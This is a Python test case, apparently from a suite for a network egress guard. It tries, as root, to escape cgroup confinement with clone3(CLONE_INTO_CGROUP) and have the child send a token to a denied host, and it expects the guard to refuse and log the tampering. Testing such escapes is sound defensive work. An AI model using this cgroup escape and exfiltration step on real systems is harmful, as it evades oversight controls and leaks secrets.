"""A root job starts a child straight into the cgroup2 root with clone3(CLONE_INTO_CGROUP): the kernel checks only that the job may write the root's cgroup.procs (root may, and a read-only mount of the tree does not count: the check opens nothing), not the guard's read-only mounts. The child, outside every job, sends the token to a denied host. Refused: by the guard (clone3 is ENOSYS; the C library falls back to clone()) or the task_alloc hook."""
import ctypes
import os
import platform

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("root",)
SINKS_OK = []
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.tamper", {"egress.decision": "deny", "egress.reason": "tamper_cgroup"})]

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR_CLONE3 = 435  # x86_64 and aarch64 alike


def cgroup2_mount():
    for line in open("/proc/self/mounts"):
        f = line.split()
        if f[2] == "cgroup2":
            return f[1]
    raise OSError(2, "no cgroup2 mount")


def clone_into(fd, token):
    args = (ctypes.c_uint64 * 11)()
    args[0] = 0x200000000  # CLONE_INTO_CGROUP
    args[4] = 17  # SIGCHLD
    args[10] = fd
    pid = libc.syscall(ctypes.c_long(NR_CLONE3), ctypes.c_void_p(ctypes.addressof(args)),
                       ctypes.c_long(88))
    if pid == 0:  # the child, in the cgroup2 root were it let through
        try:
            tcp_send(D4, 443, token)
        finally:
            os._exit(0)
    if pid < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    os.waitpid(pid, 0)
    return pid


def job(token, args):
    assert platform.machine() in ("x86_64", "aarch64")
    fd = os.open(cgroup2_mount(), os.O_RDONLY | os.O_DIRECTORY)
    try:
        attempt("clone3(CLONE_INTO_CGROUP) into the cgroup2 root", clone_into, fd, token)
    finally:
        os.close(fd)


if __name__ == "__main__":
    main(globals())
